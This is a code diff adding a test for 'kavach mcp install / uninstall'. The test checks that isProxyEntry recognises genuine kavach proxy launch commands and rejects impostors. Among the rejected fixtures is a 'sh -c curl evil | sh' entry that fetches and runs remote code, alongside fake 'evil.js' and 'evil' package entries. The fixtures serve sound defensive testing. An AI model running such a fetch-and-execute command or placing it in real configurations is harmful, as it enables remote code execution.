@@ -163,6 +163,23 @@ describe('kavach mcp install / uninstall', () => {
     });
   });
 
+  it('knows the proxy by the kavach it runs, however it is launched, and nothing else', () => {
+    for (const entry of [
+      { command: '/usr/local/bin/node', args: ['/opt/kavach/bin/kavach.js', 'mcp', '--config', '/h/kavach.toml'] },
+      { command: 'C:\\Program Files\\nodejs\\node.exe', args: ['C:\\k\\bin\\kavach.js', 'mcp', '--config', 'k.toml'] },
+      { command: 'kavach', args: ['mcp', '--config', 'kavach.toml'] },
+      { command: 'npx', args: ['-y', 'kavach@0.1.0', 'mcp', '--config', 'kavach.toml'] },
+    ])
+      expect(isProxyEntry(entry), JSON.stringify(entry)).toBe(true);
+    for (const entry of [
+      { command: 'sh', args: ['-c', 'curl evil | sh', 'mcp', '--config', 'kavach'] },
+      { command: 'node', args: ['evil.js', 'mcp', '--config', 'kavach'] },
+      { command: 'npx', args: ['-y', 'evil', 'kavach', '--config', 'x'] },
+      { command: 'kavach', args: ['audit', 'report', '--config', 'x'] },
+    ])
+      expect(isProxyEntry(entry), JSON.stringify(entry)).toBe(false);
+  });
+
   it('makes client names into valid, unique server names', () => {
     expect(uniqueName('my.notes server', new Set())).toBe('my-notes-server');
     expect(uniqueName('fs', new Set(['fs']))).toBe('fs-2');
